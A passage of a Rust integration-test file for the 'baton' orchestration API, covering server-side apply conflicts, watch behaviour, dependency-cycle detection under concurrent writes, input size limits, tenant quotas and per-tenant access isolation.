            "10.0.0.1",
            "Ready",
            null,
            "0/2",
            "0/1024",
            "0/0",
            "0/0",
            0,
            "rack=r1",
            "test",
            table["rows"][0]["cells"][11]
        ])
    );
}

#[tokio::test]
async fn idle_watches_get_bookmarks_with_the_revision_they_have_seen() {
    let api = Api::new().await;
    let created = api.create("web", 1).await;
    // A write elsewhere in the store moves the revision on without an event for apps.
    let other = api.store.put("/baton/registry/baton.dev/appgroups/elsewhere/x", b"{}".to_vec()).await;
    assert!(other.is_ok());
    let events =
        api.watch(&format!("{APPS}?watch=true&allowWatchBookmarks=true&resourceVersion={}", rv(&created)), 1).await;
    assert_eq!(events[0]["type"], "BOOKMARK");
    assert_eq!(events[0]["object"]["kind"], "App");
    assert_eq!(rv(&events[0]["object"]), rv(&created));
}

async fn apply_as(api: &Api, manager: &str, config: &Value, force: bool) -> (StatusCode, Value) {
    let path = format!("{APPS}/web?fieldManager={manager}{}", if force { "&force=true" } else { "" });
    api.call_as(Method::PATCH, &path, "application/apply-patch+yaml", Some(config)).await
}

#[tokio::test]
async fn server_side_apply_owns_fields_removes_dropped_ones_and_reports_conflicts() {
    let api = Api::new().await;
    let config = json!({"apiVersion": "baton.dev/v1alpha1", "kind": "App", "metadata": {"name": "web"},
                        "spec": {"instances": 2, "cmd": "sleep 100", "env": {"A": "1", "B": "2"}}});
    let (code, created) = apply_as(&api, "ci", &config, false).await;
    assert_eq!(code, StatusCode::CREATED, "apply creates what is missing: {created}");
    assert_eq!(created["metadata"]["managedFields"][0]["manager"], "ci");
    assert_eq!(created["metadata"]["managedFields"][0]["operation"], "Apply");
    assert_eq!(created["metadata"]["managedFields"][0]["fieldsV1"]["f:spec"]["f:env"]["f:B"], json!({}));
    let (code, again) = apply_as(&api, "ci", &config, false).await;
    assert_eq!((code, rv(&again)), (StatusCode::OK, rv(&created)), "the same apply changes nothing");

    let mut smaller = config.clone();
    smaller["spec"]["env"] = json!({"A": "1"});
    let (_, applied) = apply_as(&api, "ci", &smaller, false).await;
    assert_eq!(applied["spec"]["env"], json!({"A": "1"}), "a field no longer applied is removed");

    // Another manager changing a field ci owns: a conflict naming it, and nothing written.
    let theirs = json!({"apiVersion": "baton.dev/v1alpha1", "kind": "App", "metadata": {"name": "web"},
                        "spec": {"instances": 5}});
    let (code, body) = apply_as(&api, "ops", &theirs, false).await;
    assert_eq!((code, body["reason"].as_str()), (StatusCode::CONFLICT, Some("Conflict")), "{body}");
    assert_eq!(
        body["message"],
        "Apply failed with 1 conflict: conflict with \"ci\" using baton.dev/v1alpha1: .spec.instances"
    );
    assert_eq!(body["details"]["causes"][0]["reason"], "FieldManagerConflict");
    assert_eq!(body["details"]["causes"][0]["field"], ".spec.instances");
    let (code, forced) = apply_as(&api, "ops", &theirs, true).await;
    assert_eq!((code, forced["spec"]["instances"].clone()), (StatusCode::OK, json!(5)), "force takes the field");

    // A merge patch is an update: it takes the fields it changes.
    let patch = json!({"spec": {"env": {"A": "9"}}});
    let (_, patched) = api
        .call_as(
            Method::PATCH,
            &format!("{APPS}/web?fieldManager=kubectl-patch"),
            "application/merge-patch+json",
            Some(&patch),
        )
        .await;
    let managers: Vec<&str> = patched["metadata"]["managedFields"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["manager"].as_str().unwrap())
        .collect();
    assert_eq!(managers, ["ci", "ops", "kubectl-patch"]);
    let (code, body) = apply_as(&api, "ci", &smaller, false).await;
    assert_eq!(code, StatusCode::CONFLICT, "ci's env.A now belongs to kubectl-patch: {body}");

    let (code, body) =
        api.call_as(Method::PATCH, &format!("{APPS}/web"), "application/apply-patch+yaml", Some(&config)).await;
    assert_eq!(code, StatusCode::BAD_REQUEST, "apply needs a field manager: {body}");
}

/// GitOps tools re-apply every few minutes: applying an unchanged manifest that leaves out
/// fields with defaults (examples/web.yaml does) must change nothing — no new generation, no
/// new resourceVersion, no write — also when a second has passed (managed fields keep their
/// time).
#[tokio::test]
async fn applying_an_unchanged_manifest_again_changes_nothing() {
    let api = Api::new().await;
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/web.yaml");
    let manifest = std::fs::read_to_string(&path).unwrap();
    let config: Value = serde_saphyr::from_str(&manifest).expect("examples/web.yaml parses");
    let (code, first) = apply_as(&api, "kubectl", &config, false).await;
    assert_eq!(code, StatusCode::CREATED, "{first}");
    let revision = api.store.current_revision().await.unwrap();
    for _ in 0..2 {
        tokio::time::sleep(std::time::Duration::from_millis(1100)).await;
        let (code, again) = apply_as(&api, "kubectl", &config, false).await;
        assert_eq!(code, StatusCode::OK, "{again}");
        assert_eq!(again["metadata"]["generation"], 1, "{again}");
        assert_eq!(rv(&again), rv(&first), "{again}");
        assert_eq!(again["metadata"]["managedFields"], first["metadata"]["managedFields"]);
    }
    assert_eq!(api.store.current_revision().await.unwrap(), revision, "nothing was written");
    let (_, stored) = api.call(Method::GET, &format!("{APPS}/web"), None).await;
    assert_eq!((stored["metadata"]["generation"].clone(), rv(&stored)), (json!(1), rv(&first)));
}

#[tokio::test]
async fn core_kinds_take_strategic_merge_patches() {
    let api = Api::new().await;
    api.call(Method::POST, NAMESPACES, Some(&namespace("shop"))).await;
    let patch = json!({"metadata": {"labels": {"env": "prod"}, "$setElementOrder/finalizers": []}});
    let (code, patched) = api
        .call_as(Method::PATCH, &format!("{NAMESPACES}/shop"), "application/strategic-merge-patch+json", Some(&patch))
        .await;
    assert_eq!(code, StatusCode::OK, "{patched}");
    assert_eq!(patched["metadata"]["labels"]["env"], "prod");
}

#[tokio::test]
async fn watchers_share_one_watch_per_kind_and_resume_from_its_memory() {
    let api = Api::new().await;
    let (_, list) = api.call(Method::GET, APPS, None).await;
    let start = rv(&list);
    // The first watch starts the kind's shared watch at the current revision.
    let first = format!("{APPS}?watch=true&resourceVersion={start}");
    let response = api.router.clone().oneshot(Api::request(Method::GET, &first, "application/json", None)).await;
    assert_eq!(response.unwrap().status(), StatusCode::OK);
    api.call(Method::POST, NAMESPACES, Some(&namespace("other"))).await;
    let created = api.create("web", 1).await;
    let elsewhere = "/apis/baton.dev/v1alpha1/namespaces/other/apps";
    let (code, _) = api.call(Method::POST, elsewhere, Some(&app("db", 1))).await;
    assert_eq!(code, StatusCode::CREATED);
    // Without the controller's finalizer (no controller runs here), so the delete is final.
    let release = json!({"metadata": {"finalizers": null}});
    api.call_as(Method::PATCH, &format!("{APPS}/web"), "application/merge-patch+json", Some(&release)).await;
    api.call(Method::DELETE, &format!("{APPS}/web"), None).await;

    // A watch from the start is served from memory: only this namespace, in order.
    let events = api.watch(&first, 3).await;
    let seen: Vec<(&str, &str)> = events
        .iter()
        .map(|e| (e["type"].as_str().unwrap(), e["object"]["metadata"]["name"].as_str().unwrap()))
        .collect();
    assert_eq!(seen, [("ADDED", "web"), ("MODIFIED", "web"), ("DELETED", "web")]);
    assert_eq!(rv(&events[0]["object"]), rv(&created));
    assert!(rv(&events[2]["object"]).parse::<i64>().unwrap() > rv(&events[1]["object"]).parse::<i64>().unwrap());
    // Across namespaces, with a selector.
    let everywhere =
        format!("/apis/baton.dev/v1alpha1/apps?watch=true&resourceVersion={start}&labelSelector=tier%3Dweb");
    let events = api.watch(&everywhere, 4).await;
    let names: Vec<&str> = events.iter().map(|e| e["object"]["metadata"]["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["web", "db", "web", "web"]);
}

const GROUPS: &str = "/apis/baton.dev/v1alpha1/namespaces/default/appgroups";

fn grouped(name: &str, group: &str, dependencies: &[&str]) -> Value {
    json!({"apiVersion": "baton.dev/v1alpha1", "kind": "App", "metadata": {"name": name},
           "spec": {"cmd": "sleep 100", "group": group, "dependencies": dependencies}})
}

fn app_group(name: &str, path: &str, dependencies: &[&str]) -> Value {
    json!({"apiVersion": "baton.dev/v1alpha1", "kind": "AppGroup", "metadata": {"name": name},
           "spec": {"path": path, "dependencies": dependencies}})
}

#[tokio::test]
async fn a_dependency_cycle_is_refused_naming_the_paths_and_nothing_is_written() {
    let api = Api::new().await;
    for body in [grouped("db", "/shop", &[]), grouped("api", "/shop", &["db"]), grouped("web", "/shop", &["api"])] {
        let (status, body) = api.call(Method::POST, APPS, Some(&body)).await;
        assert_eq!(status, StatusCode::CREATED, "{body}");
    }
    let (_, db) = api.call(Method::GET, &format!("{APPS}/db"), None).await;
    let mut cyclic = db.clone();
    cyclic["spec"]["dependencies"] = json!(["/shop/web"]);
    let (status, body) = api.call(Method::PUT, &format!("{APPS}/db"), Some(&cyclic)).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(
        body["message"],
        "App.baton.dev \"db\" is invalid: spec.dependencies: Invalid value: [\"/shop/web\"]: dependency cycle: \
         /shop/db → /shop/web → /shop/api → /shop/db (/shop/db depends on /shop/web; /shop/web depends on \
         /shop/api; /shop/api depends on /shop/db)"
    );
    assert_eq!(body["details"]["causes"][0]["field"], "spec.dependencies");
    let (_, unchanged) = api.call(Method::GET, &format!("{APPS}/db"), None).await;
    assert_eq!(rv(&unchanged), rv(&db), "nothing was written");

    // Through a group: /shop depending on /shop/web makes every app of /shop depend on it.
    let (status, body) = api.call(Method::POST, GROUPS, Some(&app_group("shop", "/shop", &["web"]))).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert!(body["message"].as_str().unwrap().contains("inherited from the AppGroup at /shop"), "{body}");

    // An app joining a group whose dependencies lead back to it closes a cycle too.
    let (status, _) = api.call(Method::POST, GROUPS, Some(&app_group("front", "/front", &["/shop"]))).await;
    assert_eq!(status, StatusCode::CREATED);
    let mut joins = db.clone();
    joins["spec"]["dependencies"] = json!(["/front"]);
    let (status, body) = api.call(Method::PUT, &format!("{APPS}/db"), Some(&joins)).await;
    assert_eq!(status, StatusCode::OK, "/front has no app yet: {body}");
    let (status, body) = api.call(Method::POST, APPS, Some(&grouped("ui", "/front", &[]))).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(body["details"]["causes"][0]["field"], "spec.group", "{body}");
    assert!(body["message"].as_str().unwrap().contains("/front/ui → /shop/"), "{body}");
}

#[tokio::test]
async fn one_app_group_per_path() {
    let api = Api::new().await;
    let (status, _) = api.call(Method::POST, GROUPS, Some(&app_group("shop", "/shop", &[]))).await;
    assert_eq!(status, StatusCode::CREATED);
    let (status, body) = api.call(Method::POST, GROUPS, Some(&app_group("shop-2", "/shop/", &[]))).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert_eq!(
        body["message"],
        "AppGroup.baton.dev \"shop-2\" is invalid: spec.path: Invalid value: \"/shop/\": the AppGroup \"shop\" already \
         holds the settings of /shop: edit that one"
    );
    let (status, body) = api.call(Method::POST, GROUPS, Some(&app_group("bad", "shop", &["../../x"]))).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    let causes: Vec<&str> =
        body["details"]["causes"].as_array().unwrap().iter().map(|c| c["field"].as_str().unwrap()).collect();
    assert_eq!(causes, ["spec.path", "spec.dependencies[0]"]);
}

/// Of two concurrent writes, exactly one was created and the other refused (422).
fn exactly_one_landed(round: usize, first: &(StatusCode, Value), second: &(StatusCode, Value)) {
    let statuses = [first.0, second.0];
    assert!(
        statuses.contains(&StatusCode::CREATED) && statuses.contains(&StatusCode::UNPROCESSABLE_ENTITY),
        "round {round}: {statuses:?} {} {}",
        first.1,
        second.1
    );
}

/// Two writes that each close half of a cycle, at once: the namespace's graph key lets only
/// one of them in, and the other is checked again against it.
#[tokio::test]
async fn concurrent_halves_of_a_cycle_cannot_both_land() {
    for round in 0..20 {
        let api = Api::new().await;
        let a = grouped("a", "/", &["/b"]);
        let b = grouped("b", "/", &["/a"]);
        let (first, second) =
            tokio::join!(api.call(Method::POST, APPS, Some(&a)), api.call(Method::POST, APPS, Some(&b)));
        exactly_one_landed(round, &first, &second);
    }
}

/// An app without dependencies joining a group, while the group is given dependencies that
/// lead back to it: each is fine alone, together they are a cycle, so one of them must fail.
#[tokio::test]
async fn joining_a_group_while_it_gains_dependencies_cannot_close_a_cycle() {
    for round in 0..20 {
        let api = Api::new().await;
        let (status, _) = api.call(Method::POST, APPS, Some(&grouped("api", "/back", &["/front"]))).await;
        assert_eq!(status, StatusCode::CREATED);
        let group = app_group("front", "/front", &["/back"]);
        let web = grouped("web", "/front", &[]);
        let (first, second) =
            tokio::join!(api.call(Method::POST, GROUPS, Some(&group)), api.call(Method::POST, APPS, Some(&web)));
        exactly_one_landed(round, &first, &second);
    }
}

/// The same with apps already stored moved into the group, several at once (each bumps its
/// mark among the namespace's member keys). Any app in the group with its dependencies
/// closes the cycle: if the group lands, no move does.
#[tokio::test]
async fn moving_into_a_group_while_it_gains_dependencies_cannot_close_a_cycle() {
    let movers = 4;
    for round in 0..20 {
        let api = Api::new().await;
        let (status, _) = api.call(Method::POST, APPS, Some(&grouped("api", "/back", &["/front"]))).await;
        assert_eq!(status, StatusCode::CREATED);
        for i in 0..movers {
            let (status, body) = api.call(Method::POST, APPS, Some(&grouped(&format!("web-{i}"), "/side", &[]))).await;
            assert_eq!(status, StatusCode::CREATED, "{body}");
        }
        let group = app_group("front", "/front", &["/back"]);
        let moved = json!({"spec": {"group": "/front"}});
        let paths: Vec<String> = (0..movers).map(|i| format!("{APPS}/web-{i}")).collect();
        let moves =
            paths.iter().map(|path| api.call_as(Method::PATCH, path, "application/merge-patch+json", Some(&moved)));
        let (grouped, moves) =
            tokio::join!(api.call(Method::POST, GROUPS, Some(&group)), futures::future::join_all(moves));
        let landed = moves.iter().filter(|(status, _)| *status == StatusCode::OK).count();
        let refused = moves.iter().filter(|(status, _)| *status == StatusCode::UNPROCESSABLE_ENTITY).count();
        let (status, body) = &grouped;
        match *status {
            StatusCode::CREATED => {
                assert_eq!(refused, movers, "round {round}: the group landed, and so did {landed} moves")
            }
            StatusCode::UNPROCESSABLE_ENTITY => assert_eq!(landed, movers, "round {round}: {body}"),
            other => panic!("round {round}: {other} {body}"),
        }
    }
}

/// A store that counts what is read through it.
struct Counting {
    inner: Arc<dyn Store>,
    /// Calls that read (get, range, range_page, txn).
    calls: std::sync::atomic::AtomicUsize,
    /// Keys returned by them.
    keys: std::sync::atomic::AtomicUsize,
}

impl Counting {
    fn count(&self, keys: usize) {
        use std::sync::atomic::Ordering::SeqCst;
        self.calls.fetch_add(1, SeqCst);
        self.keys.fetch_add(keys, SeqCst);
    }

    /// (calls, keys) since the last take.
    fn take(&self) -> (usize, usize) {
        use std::sync::atomic::Ordering::SeqCst;
        (self.calls.swap(0, SeqCst), self.keys.swap(0, SeqCst))
    }
}

#[async_trait::async_trait]
impl Store for Counting {
    async fn get(&self, key: &str) -> baton_store::Result<Option<baton_store::KeyValue>> {
        let kv = self.inner.get(key).await?;
        self.count(usize::from(kv.is_some()));
        Ok(kv)
    }

    async fn range(&self, prefix: &str) -> baton_store::Result<baton_store::RangeResponse> {
        let range = self.inner.range(prefix).await?;
        self.count(range.kvs.len());
        Ok(range)
    }

    async fn range_page(&self, request: &baton_store::PageRequest) -> baton_store::Result<baton_store::RangePage> {
        let page = self.inner.range_page(request).await?;
        self.count(page.kvs.len());
        Ok(page)
    }

    async fn txn(&self, txn: baton_store::Txn) -> baton_store::Result<baton_store::TxnResponse> {
        let response = self.inner.txn(txn).await?;
        let read = response
            .responses
            .iter()
            .map(|r| match r {
                baton_store::OpResponse::Get(Some(_)) => 1,
                baton_store::OpResponse::Range { kvs, .. } => kvs.len(),
                _ => 0,
            })
            .sum();
        self.count(read);
        Ok(response)
    }

    async fn watch(&self, prefix: &str, from: baton_store::Revision) -> baton_store::Result<baton_store::WatchStream> {
        self.inner.watch(prefix, from).await
    }

    async fn grant_lease(&self, ttl: Duration) -> baton_store::Result<baton_store::LeaseId> {
        self.inner.grant_lease(ttl).await
    }

    async fn keep_alive(&self, lease: baton_store::LeaseId) -> baton_store::Result<Duration> {
        self.inner.keep_alive(lease).await
    }

    async fn revoke_lease(&self, lease: baton_store::LeaseId) -> baton_store::Result<()> {
        self.inner.revoke_lease(lease).await
    }
}

/// Writes instances `numbers`, instance `n` on agent `a{n % 20}` (its record, its Running
/// status and, if `indexed`, its index entry), 40 to a transaction (at most 120 operations
/// of the 128 allowed): one write at a time, each waiting for its own fsync, the 1,000 of
/// the test below took 15-26 s on a busy machine.
async fn put_instances(store: &Arc<dyn Store>, numbers: std::ops::Range<usize>, indexed: bool) {
    let numbers: Vec<usize> = numbers.collect();
    for chunk in numbers.chunks(40) {
        let mut ops = Vec::new();
        for n in chunk {
            let (agent, id) = (format!("a{}", n % 20), format!("web-{n:04}"));
            let record = json!({
                "id": id, "app": {"namespace": "default", "name": "web", "uid": "u1"}, "agent": agent,
                "host": "127.0.0.1", "version": "v1", "createdAt": "2026-11-21T00:00:00Z", "goal": "Running",
                "command": {"shell": "sleep 1"}, "resources": {"millicpus": 100, "memMib": 64, "diskMib": 0},
                "killGraceSeconds": 3
            });
            ops.push(Op::put(format!("/baton/instances/{agent}/{id}"), record.to_string().into_bytes()));
            let status = json!({"phase": "Running"}).to_string().into_bytes();
            ops.push(Op::put(format!("/baton/status/{agent}/{id}"), status));
            if indexed {
                ops.push(Op::put(format!("/baton/instance-agents/{id}"), agent.into_bytes()));
            }
        }
        assert!(store.txn(Txn::new().and_then(ops)).await.unwrap().succeeded);
    }
}

#[tokio::test]
async fn reading_one_instance_reads_one_instance() {
    let dir = tempfile::tempdir().unwrap();
    let embedded: Arc<dyn Store> = Arc::new(EmbeddedStore::open(dir.path(), EmbeddedOptions::default()).await.unwrap());
    // Records from before the index: the API server indexes them when it starts.
    put_instances(&embedded, 0..100, false).await;
    let counting = Arc::new(Counting { inner: embedded.clone(), calls: Default::default(), keys: Default::default() });
    let api = Api::on(counting.clone(), dir).await;
    // And as the controller writes them now, with their index entries.
    put_instances(&embedded, 100..1000, true).await;
    let agent = json!({"name": "a7", "host": "127.0.0.1", "resources": {"millicpus": 1000, "memMib": 1024, "diskMib": 0},
                       "version": "test", "startedAt": "2026-11-21T00:00:00Z"});
    embedded.put("/baton/agents/a7", agent.to_string().into_bytes()).await.unwrap();
    let path = "/apis/baton.dev/v1alpha1/namespaces/default/instances";

    for id in ["web-0007", "web-0907"] {
        counting.take();
        let (code, view) = api.call(Method::GET, &format!("{path}/{id}"), None).await;
        assert_eq!(code, StatusCode::OK, "{view}");
        assert_eq!((view["spec"]["agent"].as_str(), view["status"]["phase"].as_str()), (Some("a7"), Some("Running")));
        let (calls, keys) = counting.take();
        assert!(calls <= 2 && keys <= 4, "GET of one of 1,000 instances made {calls} reads of {keys} keys");
    }
    let (code, _) = api.call(Method::GET, &format!("{path}/web-9999"), None).await;
    assert_eq!(code, StatusCode::NOT_FOUND);
    assert_eq!(counting.take(), (1, 0), "a missing instance costs one read");

    // An agent: its own records, its 50 instances and their statuses.
    let (code, view) = api.call(Method::GET, "/apis/baton.dev/v1alpha1/agents/a7", None).await;
    assert_eq!(code, StatusCode::OK, "{view}");
    let (calls, keys) = counting.take();
    assert!(calls <= 3 && keys <= 1 + 2 * 50, "GET of one of 20 agents made {calls} reads of {keys} keys");
}

#[tokio::test]
async fn oversized_input_is_refused_naming_the_field_its_size_and_the_limit() {
    let api = Api::new().await;
    let big = |n: usize| "x".repeat(n);
    let with = |patch: Value| {
        let mut app = app("web", 1);
        json_patch::merge(&mut app, &patch);
        app
    };
    let deep = format!("/{}", vec!["g"; 17].join("/"));
    let cases: Vec<(Value, &str, &str)> = vec![
        (with(json!({"spec": {"instances": 10_001}})), "spec.instances", "at most 10000"),
        (with(json!({"spec": {"cmd": big(200 * 1024)}})), "spec.cmd", "at most 131071 are allowed"),
        (with(json!({"spec": {"env": {"BIG": big(200 * 1024)}}})), "spec.env[BIG]", "at most 131071"),
        (
            with(json!({"spec": {"env": {"A": big(100_000), "B": big(100_000), "C": big(100_000)}}})),
            "spec.env",
            "takes 300009 bytes; at most 262144",
        ),
        (with(json!({"metadata": {"labels": {"tier": big(100)}}})), "metadata.labels[tier]", "has 100 characters"),
        (
            with(json!({"metadata": {"annotations": {"note": big(300 * 1024)}}})),
            "metadata.annotations",
            "at most 262144",
        ),
        (with(json!({"spec": {"group": deep}})), "spec.group", "has 17 segments; at most 16"),
        (
            with(json!({"spec": {"constraints": vec![json!(["hostname", "UNIQUE"]); 33]}})),
            "spec.constraints",
            "has 33 constraints; at most 32",
        ),
        (
            with(json!({"spec": {"dependencies": (0..33).map(|i| format!("/d{i}")).collect::<Vec<_>>()}})),
            "spec.dependencies",
            "has 33 dependencies; at most 32",
        ),
        (with(json!({"spec": {"ports": vec![json!({"port": 0}); 65]}})), "spec.ports", "at most 64"),
    ];
    for (body, field, limit) in cases {
        let (code, status) = api.call(Method::POST, APPS, Some(&body)).await;
        assert_eq!(code, StatusCode::UNPROCESSABLE_ENTITY, "{field}: {status}");
        let message = status["message"].as_str().unwrap_or_default();
        assert!(message.contains(field) && message.contains(limit), "{field}, {limit}: {message}");
        assert!(message.len() < 2000, "the message stays short: {} bytes", message.len());
    }
    let (_, list) = api.call(Method::GET, APPS, None).await;
    assert_eq!(list["items"], json!([]), "nothing was written");
    // Within the limits it is accepted.
    let (code, body) = api.call(Method::POST, APPS, Some(&with(json!({"spec": {"instances": 10_000}})))).await;
    assert_eq!(code, StatusCode::CREATED, "{body}");
}

#[tokio::test]
async fn maintenances_are_cluster_scoped_and_bad_ones_are_refused_naming_field_and_value() {
    let api = Api::new().await;
    let path = "/apis/baton.dev/v1alpha1/maintenances";
    let good = json!({
        "apiVersion": "baton.dev/v1alpha1", "kind": "Maintenance", "metadata": {"name": "racks"},
        "spec": {"partitionBy": "rack", "maxAgents": 2,
                 "schedule": {"start": "2026-12-02T02:00:00Z", "every": "24h", "duration": "4h"}},
    });
    let (code, created) = api.call(Method::POST, path, Some(&good)).await;
    assert_eq!(code, StatusCode::CREATED, "{created}");
    assert_eq!(created["spec"]["horizonDays"], 7, "defaults are filled in");
    assert!(created["metadata"].get("namespace").is_none(), "cluster-scoped");
    let (code, _) = api.call(Method::GET, &format!("{path}/racks"), None).await;
    assert_eq!(code, StatusCode::OK);

    let bad = json!({
        "apiVersion": "baton.dev/v1alpha1", "kind": "Maintenance", "metadata": {"name": "bad"},
        "spec": {"maxAgents": 0, "partitions": ["r1"],
                 "schedule": {"start": "2026-12-02T02:00:00Z", "every": "5m", "duration": "a while"}},
    });
    let (code, status) = api.call(Method::POST, path, Some(&bad)).await;
    assert_eq!(code, StatusCode::UNPROCESSABLE_ENTITY, "{status}");
    let message = status["message"].as_str().unwrap_or_default();
    for needle in
        ["spec.maxAgents", "spec.schedule.every", "\"5m\"", "spec.schedule.duration", "\"a while\"", "spec.partitionBy"]
    {
        assert!(message.contains(needle), "{needle} is not in: {message}");
    }
    let (code, _) = api.call(Method::GET, &format!("{path}/bad"), None).await;
    assert_eq!(code, StatusCode::NOT_FOUND, "nothing half-written");
}

#[tokio::test]
async fn a_tenants_quota_is_checked_atomically_with_each_write_and_racing_writes_never_overshoot() {
    let api = Arc::new(Api::new().await);
    let tenants = "/apis/baton.dev/v1alpha1/tenants";
    let tenant = json!({"apiVersion": "baton.dev/v1alpha1", "kind": "Tenant", "metadata": {"name": "team-a"},
                        "spec": {"namespaces": ["a"], "quota": {"instances": 10, "cpus": 4}}});
    let (code, body) = api.call(Method::POST, tenants, Some(&tenant)).await;
    assert_eq!(code, StatusCode::CREATED, "{body}");
    // A namespace belongs to one tenant at most.
    let thief = json!({"apiVersion": "baton.dev/v1alpha1", "kind": "Tenant", "metadata": {"name": "team-b"},
                       "spec": {"namespaces": ["b", "a"]}});
    let (code, body) = api.call(Method::POST, tenants, Some(&thief)).await;
    assert_eq!(code, StatusCode::UNPROCESSABLE_ENTITY, "{body}");
    assert!(body["message"].as_str().unwrap().contains("spec.namespaces[1]"), "{body}");
    let (code, _) = api.call(Method::POST, NAMESPACES, Some(&json!({"metadata": {"name": "a"}}))).await;
    assert_eq!(code, StatusCode::CREATED);
    let apps = "/apis/baton.dev/v1alpha1/namespaces/a/apps";

    // 40 racing creates of one instance (0.1 cpus) each: exactly 10 fit.
    let creates = (0..40).map(|i| {
        let api = api.clone();
        tokio::spawn(async move {
            let mut app = app(&format!("w{i}"), 1);
            app["spec"]["resources"] = json!({"cpus": 0.1});
            api.call(Method::POST, apps, Some(&app)).await
        })
    });
    let results = futures::future::join_all(creates).await;
    let created = results.iter().filter(|r| r.as_ref().unwrap().0 == StatusCode::CREATED).count();
    let refused: Vec<&Value> = results
        .iter()
        .map(|r| r.as_ref().unwrap())
        .filter(|(c, _)| *c == StatusCode::FORBIDDEN)
        .map(|(_, b)| b)
        .collect();
    assert_eq!(created, 10, "exactly the quota");
    assert_eq!(refused.len(), 30, "the others refused, none failed otherwise");
    let message = refused[0]["message"].as_str().unwrap();
    assert!(
        message.contains("exceeded quota: team-a, requested: instances=1, used: instances=10, limited: instances=10"),
        "{message}"
    );
    assert_eq!(refused[0]["reason"], "Forbidden");
    let one = results
        .iter()
        .map(|r| r.as_ref().unwrap())
        .find(|(c, _)| *c == StatusCode::CREATED)
        .map(|(_, b)| b["metadata"]["name"].as_str().unwrap().to_string())
        .unwrap();
    let one = format!("{apps}/{one}");

    // Scaling past the quota through the scale subresource: refused, naming the resource.
    let scale = json!({"spec": {"replicas": 5}});
    let (code, body) =
        api.call_as(Method::PATCH, &format!("{one}/scale"), "application/merge-patch+json", Some(&scale)).await;
    assert_eq!(code, StatusCode::FORBIDDEN, "{body}");
    // Down is always allowed; then up again within the quota.
    let (code, body) = api
        .call_as(Method::PATCH, &one, "application/merge-patch+json", Some(&json!({"spec": {"instances": 0}})))
        .await;
    assert_eq!(code, StatusCode::OK, "{body}");
    let big = json!({"spec": {"instances": 1, "resources": {"cpus": 3.5}}});
    let (code, body) = api.call_as(Method::PATCH, &one, "application/merge-patch+json", Some(&big)).await;
    assert_eq!(code, StatusCode::FORBIDDEN, "{body}");
    assert!(
        body["message"].as_str().unwrap().contains("requested: cpus=3.5, used: cpus=0.9, limited: cpus=4"),
        "{body}"
    );
    // Outside the tenant's namespaces nothing is counted.
    let (code, _) = api.call(Method::POST, APPS, Some(&app("free", 50))).await;
    assert_eq!(code, StatusCode::CREATED);
}

/// The credential the platform gives tenant `name`'s controller.
async fn controller_token(api: &Api, name: &str) -> String {
    let secret = api.store.get(&Keyspace::default().tenant_controller_secret()).await.unwrap().expect("the secret");
    baton_api::tenant::controller_token(&secret.value, name)
}

/// Tenants `t-a` (namespace `na`, user alice) and `t-b` (`nb`, bob), their namespaces
/// labelled as the platform's controller labels them.
async fn two_tenants(api: &Api) {
    for (name, ns, user) in [("t-a", "na", "alice"), ("t-b", "nb", "bob")] {
        let tenant = json!({"apiVersion": "baton.dev/v1alpha1", "kind": "Tenant", "metadata": {"name": name},
                            "spec": {"namespaces": [ns], "users": [user]}});
        let (code, body) = api.call(Method::POST, "/apis/baton.dev/v1alpha1/tenants", Some(&tenant)).await;
        assert_eq!(code, StatusCode::CREATED, "{body}");
        let namespace = json!({"metadata": {"name": ns, "labels": {"baton.dev/tenant": name}}});
        let (code, _) = api.call(Method::POST, NAMESPACES, Some(&namespace)).await;
        assert_eq!(code, StatusCode::CREATED);
    }
}

/// A tenant's users, and its controller, act in its namespaces and nowhere else: every verb
/// on every namespaced kind, for each pair of tenants, and the cluster scope.
#[tokio::test]
async fn tenants_users_and_controllers_act_in_their_namespaces_only() {
    let api = Api::new().await;
    two_tenants(&api).await;
    let (controller_a, controller_b) = (controller_token(&api, "t-a").await, controller_token(&api, "t-b").await);
    let as_user = |token: &str, method: Method, path: String, body: Option<Value>| {
        let request = Api::request_as(token, method, &path, "application/json", body.as_ref());
        async { api.send(request).await.0 }
    };
    let group = |ns: &str, name: &str| {
        json!({"apiVersion": "baton.dev/v1alpha1", "kind": "AppGroup", "metadata": {"name": name, "namespace": ns},
               "spec": {"path": format!("/{name}")}})
    };
    let identities = [
        ("alice-token", "na", "nb"),
        ("bob-token", "nb", "na"),
        (controller_a.as_str(), "na", "nb"),
        (controller_b.as_str(), "nb", "na"),
    ];
    for (i, (token, own, other)) in identities.iter().enumerate() {
        for (ns, allowed) in [(own, true), (other, false)] {
            let apps = format!("/apis/baton.dev/v1alpha1/namespaces/{ns}/apps");
            let groups = format!("/apis/baton.dev/v1alpha1/namespaces/{ns}/appgroups");
            let name = format!("who{i}-{ns}");
            let mut app = app(&name, 0);
            app["metadata"]["namespace"] = json!(ns);
            let status = json!({"status": {"observedGeneration": 1}});
            let cases = [
                (Method::POST, apps.clone(), Some(app.clone())),
                (Method::GET, format!("{apps}/{name}"), None),
                (Method::GET, apps.clone(), None),
                (Method::PATCH, format!("{apps}/{name}/status"), Some(status)),
                (Method::POST, groups.clone(), Some(group(ns, &name))),
                (Method::GET, groups.clone(), None),
                (Method::GET, format!("/apis/baton.dev/v1alpha1/namespaces/{ns}/instances"), None),
                (Method::GET, format!("/api/v1/namespaces/{ns}/events"), None),
                (Method::DELETE, format!("{groups}/{name}"), None),
                (Method::DELETE, format!("{apps}/{name}"), None),
            ];
            for (method, path, body) in cases {
                let (method, body) = match (&method, body) {
                    (&Method::PATCH, body) => (Method::PATCH, body),
                    (_, body) => (method, body),
                };
                let request = match method {
                    Method::PATCH => {
                        Api::request_as(token, method.clone(), &path, "application/merge-patch+json", body.as_ref())
                    }
                    _ => Api::request_as(token, method.clone(), &path, "application/json", body.as_ref()),
                };
                let code = api.send(request).await.0;
                if allowed {
                    assert!(code.is_success(), "identity {i} {method} {path}: {code}");
                } else {
                    assert_eq!(code, StatusCode::FORBIDDEN, "identity {i} {method} {path}");
                }
            }
        }
